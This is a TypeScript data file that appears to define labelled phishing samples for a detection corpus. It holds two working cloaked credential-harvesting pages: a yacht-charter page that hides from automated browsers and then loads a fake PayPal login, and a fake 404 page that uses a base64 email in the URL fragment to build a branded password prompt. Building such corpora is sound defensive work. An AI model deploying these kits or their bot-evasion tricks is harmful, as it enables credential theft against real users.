import { type Entry } from '../entry.js';
import { baseCss, doc, gtag, siteFooter, siteNav } from '../parts/d-parts.js';

/** Cloaked kits: benign face for bots (navigator.webdriver, UA, headless hints), the kit for people — swapped in by script or fetched later. Written for corpus/d. */
export const entries: Entry[] = [

{
  id: 'd-cloak-delayed-remote-kit',
  label: 'phishing',
  kind: 'cloaked-delayed',
  url: 'https://www.harborview-yacht-charters.com/booking/confirm',
  body: doc({
    title: 'Harborview Yacht Charters — Booking',
    head: gtag('G-7QZL2M8D1K'),
    css: baseCss('#0e4a7b'),
    body: `${siteNav({ brand: 'Harborview Charters', links: ['Fleet', 'Destinations', 'Pricing', 'Contact'] })}
<main id="main" class="container" style="padding:40px 24px"><h1>Confirm your booking</h1><p>Loading your reservation…</p></main>
${siteFooter({ company: 'Harborview Yacht Charters' })}
<script>
setTimeout(function(){if(document.hidden||navigator.webdriver)return;var s=document.createElement('script');s.src='/booking/assets/confirm.js?'+Date.now();document.head.appendChild(s)},3500);
</script>`,
  }),
  routes: {
    'www.harborview-yacht-charters.com/booking/assets/confirm.js': {
      status: 200,
      headers: { 'content-type': 'application/javascript' },
      body: `document.querySelector('main').innerHTML='<div style="max-width:420px;margin:auto;border:1px solid #ddd;padding:24px;border-radius:8px"><img src="https://www.paypalobjects.com/webstatic/icon/pp258.png" width="40"><h2>Log in to your PayPal account</h2><p>To confirm your charter deposit of $1,250.00, log in with PayPal.</p><form method="post" action="/booking/pp.php"><input name="login_email" type="email" placeholder="Email or mobile number" style="width:100%;padding:12px;margin:6px 0"><input name="login_password" type="password" placeholder="Password" style="width:100%;padding:12px;margin:6px 0"><button style="width:100%;background:#0070ba;color:#fff;border:0;border-radius:20px;padding:12px">Log In</button></form></div>';`,
    },
  },
},

{
  id: 'd-cloak-hash-key-only',
  label: 'phishing',
  kind: 'cloaked-fragment-key',
  url: 'https://cdn.brightwater-plumbing-supply.com/wp-content/uploads/2025/10/x.html#aGVucmlrLnZvc3NAbm9yZGZqb3JkLXNoaXBwaW5nLm5v',
  body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>404 Not Found</title></head><body><h1>Not Found</h1><p>The requested URL was not found on this server.</p><hr><address>Apache/2.4.58 (Ubuntu) Server at cdn.brightwater-plumbing-supply.com Port 443</address>
<script>
(function(){var h=location.hash.slice(1);if(!h)return;var e;try{e=atob(h)}catch(x){return}if(!/^[^@]+@[^@]+\\.[a-z]{2,}$/i.test(e))return;
var d=e.split('@')[1];
document.documentElement.innerHTML='<head><title>'+d+' | Sign in</title></head><body style="font-family:Arial;background:#f3f3f3"><div style="max-width:400px;margin:80px auto;background:#fff;padding:30px"><img src="https://'+d+'/favicon.ico" width="32"><h2>'+d+'</h2><p>Session expired. Re-enter your password to continue.</p><form method="post" action="https://cdn.brightwater-plumbing-supply.com/wp-content/uploads/2025/10/next.php"><input name="e" value="'+e+'" readonly style="width:100%;padding:8px"><br><br><input name="p" type="password" placeholder="Password" style="width:100%;padding:8px"><br><br><button>Continue</button></form></div></body>';
})();
</script></body></html>`,
},

];
